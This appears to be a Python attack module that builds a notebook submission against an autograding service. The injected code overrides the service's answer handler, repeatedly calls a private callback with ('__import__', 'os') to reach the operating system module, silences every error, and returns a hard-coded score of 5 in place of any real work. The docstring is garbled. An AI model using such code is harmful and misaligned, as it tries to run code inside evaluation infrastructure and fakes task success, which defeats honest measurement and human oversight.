"""Calls back functions that no test handed over, for ever.

Numbers are checked, and the deadline of the cell goes on while the examiner answers.
"""

from attacks.build import instead, wire
from nbformat import NotebookNode

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        wire("""
        def answer(request, packed):
            for number in (0, 1, -1, 10**9):
                try:
                    service._call_back(number, ("__import__", "os"), {})
                except Exception:
                    pass
            return {"done": 5}, []
        service.answer = answer
        """),
    )
